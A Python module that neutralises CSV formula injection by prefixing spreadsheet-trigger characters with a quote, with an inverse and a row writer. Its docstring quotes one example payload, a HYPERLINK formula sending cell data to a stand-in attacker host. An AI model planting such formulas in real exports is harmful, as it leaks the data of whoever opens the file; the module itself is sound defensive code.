"""Spreadsheet-safe CSV cells: the one rule every CSV this tool writes follows, and its inverse.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as
a formula, so a name typed into the sign-up form (`=HYPERLINK("https://evil.example/?d="&A2)`)
would run when the operator opens an export. OWASP's rule: such a value is written with a
single quote in front, which the spreadsheet shows as text. So that reading our own files
gives back exactly what was written, a value that already starts with quotes followed by one of
those characters gets one more quote, and `restore` takes exactly one off.
"""

from __future__ import annotations

import csv
from typing import Any, Iterable, TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as written to a CSV: text that a spreadsheet would run gets a leading quote
    (numbers are left as they are: a negative count is not a formula)."""
    if isinstance(value, str) and value.lstrip("'").startswith(TRIGGERS):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The value `cell` was given, from what it wrote (other text unchanged)."""
    if value.startswith("'") and value.lstrip("'").startswith(TRIGGERS):
        return value[1:]
    return value


def write_rows(f: TextIO, rows: Iterable[Iterable[Any]], lineterminator: str = "\r\n") -> None:
    """Rows to f through csv.writer, every cell through `cell`."""
    out = csv.writer(f, lineterminator=lineterminator)
    out.writerows([cell(v) for v in row] for row in rows)
